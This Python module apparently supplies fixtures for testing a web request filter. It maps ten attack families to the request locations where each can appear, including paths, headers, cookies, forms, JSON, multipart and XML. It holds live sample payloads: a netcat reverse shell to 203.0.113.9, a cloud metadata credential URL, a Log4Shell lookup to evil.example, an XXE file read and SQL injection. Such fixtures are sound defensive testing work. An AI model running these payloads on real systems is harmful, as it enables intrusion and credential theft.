"""One plain attack of each family, the places of a request where it can stand, and who stands where."""

import json
from urllib.parse import quote
from xml.sax.saxutils import escape, quoteattr

# Each belongs to its family and no other, so that a refusal can be held against the name.
ATTACKS = {
    "sqli": "1' UNION SELECT username, password FROM users-- -",
    "xss": "<script>alert(document.cookie)</script>",
    "path-traversal": "../../../../../../etc/passwd",
    "command-injection": ";nc -e /bin/sh 203.0.113.9 4444",
    "ldap-injection": "*)(uid=*))(|(uid=*",
    "xxe": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/secret.txt">]><r>&x;</r>',
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "log4shell": "${jndi:ldap://evil.example/a}",
    "header-injection": "home\r\nSet-Cookie: session=1",
    "bot-scanner": "sqlmap/1.8#stable (https://sqlmap.org)",
}

BOUNDARY = "----boundary7MA4YWxk"


def _get(target, *headers):
    return {"method": "GET", "target": target, "headers": headers}


def _post(body, content_type=None):
    headers = [("Content-Type", content_type)] if content_type else []
    return {"method": "POST", "target": "/submit", "headers": headers, "body": body}


def _json(document):
    return _post(json.dumps(document), "application/json")


def _multipart(name, content, file_name=None):
    file_name = f'; filename="{file_name}"' if file_name else ""
    head = f'Content-Disposition: form-data; name="{name}"{file_name}\r\n'
    kind = "Content-Type: application/octet-stream\r\n" if file_name else ""
    body = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="seat"\r\n\r\nA12\r\n'
        f"--{BOUNDARY}\r\n{head}{kind}\r\n{content}\r\n--{BOUNDARY}--\r\n"
    )
    return _post(body, f"multipart/form-data; boundary={BOUNDARY}")


def _raw(attack):
    """The attack as it can stand in a header: with control characters only in their encoded form."""
    return attack.replace("\r\n", "%0d%0a")


def _cookie(attack):
    """The same for a cookie, where `;` ends the value."""
    return quote(attack) if set(attack) & set(";,\r\n") else attack


# How an attack gets into a request; the keys are what the tests call the places.
PLACES = {
    "path": lambda a: _get("/items/" + quote(a, safe="")),
    "query value": lambda a: _get("/find?page=2&q=" + quote(a)),
    "query name": lambda a: _get("/find?page=2&" + quote(a, safe="") + "=1"),
    "header": lambda a: _get("/", ("X-Api-Version", _raw(a))),
    "second of two headers": lambda a: _get("/", ("X-Note", "fine"), ("X-Note", _raw(a))),
    "user agent": lambda a: _get("/", ("User-Agent", _raw(a))),
    "cookie": lambda a: _get("/", ("Cookie", "theme=dark; visitor=" + _cookie(a))),
    "form value": lambda a: _post("seat=A12&note=" + quote(a, safe=""), "application/x-www-form-urlencoded"),
    "form name": lambda a: _post("seat=A12&" + quote(a, safe="") + "=1", "application/x-www-form-urlencoded"),
    "JSON value": lambda a: _json({"seat": "A12", "items": [{"note": a}]}),
    "JSON name": lambda a: _json({"seat": "A12", a: 1}),
    "multipart text": lambda a: _multipart("note", a),
    "multipart file name": lambda a: _multipart("file", "some bytes", a.replace('"', "%22").replace("\r\n", "%0d%0a")),
    "XML text": lambda a: _post(f"<?xml version='1.0'?><o><seat>A12</seat><note>{escape(a)}</note></o>", "application/xml"),
    "XML attribute": lambda a: _post(f"<o><seat note={quoteattr(a)}>A12</seat></o>", "text/xml"),
    "XML itself": lambda a: _post(a, "application/xml"),
    "plain text": lambda a: _post("a note of mine: " + a, "text/plain"),
    "JSON called a picture": lambda a: _post(json.dumps({"note": a}), "image/png"),
    "JSON called a form": lambda a: _post(json.dumps({"note": a}), "application/x-www-form-urlencoded"),
    "form called JSON": lambda a: _post("seat=A12&note=" + quote(a, safe=""), "application/json"),
    "JSON without a type": lambda a: _post(json.dumps({"note": a})),
    "form without a type": lambda a: _post("seat=A12&note=" + quote(a, safe="")),
}

_ELSEWHERE = {"XML itself"}
_EVERYWHERE = [place for place in PLACES if place not in _ELSEWHERE]
_VALUES = [place for place in _EVERYWHERE if "name" not in place and place not in ("path", "user agent")]

# Who stands where. What is left out means nothing there: a DTD is read only from a body, a scanner names itself.
STANDS = {
    "sqli": _EVERYWHERE,
    "xss": _EVERYWHERE,
    "path-traversal": [*_VALUES, "path", "multipart file name"],
    "command-injection": _EVERYWHERE,
    "ldap-injection": _VALUES,
    "xxe": ["XML itself", "plain text", "form value", "query value", "multipart text", "JSON value", "JSON called a picture"],
    "ssrf": _VALUES,
    "log4shell": _EVERYWHERE,
    "header-injection": [p for p in _VALUES if p not in ("plain text", "multipart text", "XML text", "XML attribute")] + ["path"],
    "bot-scanner": ["user agent"],
}
